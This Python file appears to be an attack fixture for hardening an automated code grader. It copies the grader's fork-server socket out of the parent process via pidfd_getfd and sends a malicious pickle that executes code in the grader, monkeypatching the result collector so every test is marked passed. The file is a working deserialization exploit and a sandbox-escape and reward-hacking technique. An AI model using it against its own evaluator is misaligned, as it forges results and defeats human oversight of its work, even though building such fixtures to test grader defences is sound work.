"""Tampering (own grader process): copy the fork server's control socket out of the parent with
pidfd_open + pidfd_getfd (ctypes.pythonapi is already loaded, so no dlopen is audited) and write a crafted
pickle on it. The grader reads its next fork-server reply with plain pickle.loads: the payload runs in the
grader, records every test as passed, and drains the real reply so the protocol stays in step."""
import os as _os
import pickle as _pickle
import sys as _sys
from pathlib import Path as _Path

_HERE = _Path(__file__).resolve().parents[2]
_MARK = str(_HERE / "markers" / "tamper__control_socket_pickle_rce")

_CODE = f"""
import os, select, sys
open({_MARK!r}, 'a').write('code from the submission ran in the grader, pid %d\\n' % os.getpid())
import grader.runner as R, grader.results as S
def forged(self, report):
    props = dict(report.user_properties)
    if 'dlkata_outcome' in props:
        name, pts = report.nodeid.split('::')[-1], float(props['dlkata_points'])
        self.tests[name] = S.TestResult(name, 'passed', pts, pts, '')
R._Collector.pytest_runtest_logreport = forged
control = sys.modules['grader.sandbox']._server._control
if select.select([control], [], [], 3.0)[0]:
    control.recv(1 << 16)
"""


class _Payload:
    def __reduce__(self):
        return (eval, (f"(exec({_CODE!r}, {{}}), ('status', 0))[1]",))


def _attack():
    if not _os.environ.get("DLKATA_HARDENING_SACRIFICE"):  # only in a grader process the test can lose
        return
    try:
        _os.close(_os.open(_HERE / "rce.lock", _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY))
    except FileExistsError:
        return
    import ctypes

    syscall = ctypes.pythonapi.syscall
    syscall.restype = ctypes.c_long
    pidfd = _os.pidfd_open(_os.getppid())
    control = syscall(438, pidfd, int(_sys.argv[-1]), 0)  # SYS_pidfd_getfd on x86_64
    if control >= 0:
        _os.write(control, _pickle.dumps(_Payload()))


_attack()
